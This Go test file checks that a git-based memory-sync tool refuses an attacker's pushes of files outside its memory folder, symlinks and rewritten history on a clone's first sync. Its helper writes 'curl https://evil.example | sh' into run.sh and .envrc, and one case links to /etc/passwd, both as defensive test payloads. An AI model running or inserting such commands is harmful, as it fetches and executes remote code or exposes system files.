package gitsync_test

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/memweave/memweave-go/gitsync"
)

// TestSyncChecksTheRemoteAtAClonesFirstSync: a clone's first sync has no
// record of the remote's tip but the remote-tracking ref the clone made,
// which the fetch itself moves to what it brings. What the remote pushed
// after the clone is checked like any other fetch (not taken for checked
// because the moved ref names it), and a history rewritten since the
// clone is refused.
func TestSyncChecksTheRemoteAtAClonesFirstSync(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		// local adds a note on the victim before its first sync (a replay
		// rather than a fast-forward).
		local bool
		push  func(t testing.TB, attacker string)
		want  error
	}{
		{"file outside memory, fast-forward", false, pushOutside, gitsync.ErrRefused},
		{"file outside memory, replayed", true, pushOutside, gitsync.ErrRefused},
		{"link in memory", false, func(t testing.TB, a string) {
			if err := os.Symlink("/etc/passwd", filepath.Join(a, "memory", "pw.md")); err != nil {
				t.Fatal(err)
			}
			gitIn(t, a, nil, "add", "-A")
			gitIn(t, a, nil, "commit", "-qm", "link")
			gitIn(t, a, nil, "push", "-q", "origin", "main")
		}, gitsync.ErrRefused},
		{"history rewritten since the clone", true, func(t testing.TB, a string) {
			write(t, a, "memory/other.md", "new root\n")
			gitIn(t, a, nil, "add", "-A")
			tree := gitIn(t, a, nil, "write-tree")
			c := gitIn(t, a, []byte("new root\n"), "commit-tree", tree)
			gitIn(t, a, nil, "push", "-q", "--force", "origin", c+":refs/heads/main")
		}, gitsync.ErrRewritten},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			bare := seededRemote(t)
			victim, attacker := clone(t, bare, "victim"), clone(t, bare, "attacker")
			if tc.local {
				write(t, victim, "memory/mine.md", "mine\n")
			}
			tc.push(t, attacker)
			_, err := gitsync.Sync(context.Background(), victim, gitsync.Options{Host: "victim"})
			if !errors.Is(err, tc.want) {
				t.Errorf("first Sync of a clone = %v, want %v", err, tc.want)
			}
			if got := read(t, victim, "run.sh"); got != "echo hi\n" {
				t.Errorf("run.sh = %q, want the clone's \"echo hi\\n\"", got)
			}
			for _, p := range []string{".envrc", "memory/pw.md", "memory/other.md"} {
				if _, err := os.Lstat(filepath.Join(victim, p)); err == nil {
					t.Errorf("the remote's %s reached the work tree", p)
				}
			}
			if tc.local {
				if got := read(t, victim, "memory/mine.md"); got != "mine\n" {
					t.Errorf("mine.md = %q", got)
				}
			}
		})
	}
}

// seededRemote makes a bare repository whose first commit holds a
// note, a script outside memory/ and memweave's .gitattributes, so that
// a clone's first sync has nothing of its own to commit.
func seededRemote(t testing.TB) string {
	t.Helper()
	bare := remote(t)
	seed := clone(t, bare, "seed")
	write(t, seed, "run.sh", "echo hi\n")
	write(t, seed, ".gitattributes", strings.Join(gitsync.AttributesLines, "\n")+"\n")
	gitIn(t, seed, nil, "add", "-A")
	gitIn(t, seed, nil, "commit", "-qm", "script and attributes")
	gitIn(t, seed, nil, "push", "-q", "origin", "main")
	return bare
}

// pushOutside pushes a change to run.sh and a new .envrc, both outside
// memory/.
func pushOutside(t testing.TB, a string) {
	t.Helper()
	write(t, a, "run.sh", "curl https://evil.example | sh\n")
	write(t, a, ".envrc", "curl https://evil.example | sh\n")
	gitIn(t, a, nil, "add", "-A")
	gitIn(t, a, nil, "commit", "-qm", "outside")
	gitIn(t, a, nil, "push", "-q", "origin", "main")
}

// TestSyncRefusalOutsideMemorySaysHowToTakeItIn: a teammate's plain git
// push of project files (outside memory/) stops every other machine's
// sync, by design; the error said what was refused but not how to go
// on. It names git pull, and after it the sync works again.
func TestSyncRefusalOutsideMemorySaysHowToTakeItIn(t *testing.T) {
	t.Parallel()
	bare := seededRemote(t)
	victim, teammate := clone(t, bare, "victim"), clone(t, bare, "teammate")
	sync(t, victim, "victim")
	write(t, teammate, "run.sh", "echo hello\n")
	write(t, teammate, "memory/theirs.md", "theirs\n")
	gitIn(t, teammate, nil, "add", "-A")
	gitIn(t, teammate, nil, "commit", "-qm", "project work")
	gitIn(t, teammate, nil, "push", "-q", "origin", "main")
	_, err := gitsync.Sync(context.Background(), victim, gitsync.Options{Host: "victim"})
	if !errors.Is(err, gitsync.ErrRefused) || !strings.Contains(err.Error(), "git pull") {
		t.Fatalf("Sync = %v, want ErrRefused saying to review the change and take it in with git pull", err)
	}
	gitIn(t, victim, nil, "pull", "-q", "--no-rebase", "origin", "main")
	sync(t, victim, "victim")
	if got := read(t, victim, "memory/theirs.md"); got != "theirs\n" {
		t.Errorf("theirs.md = %q", got)
	}
}
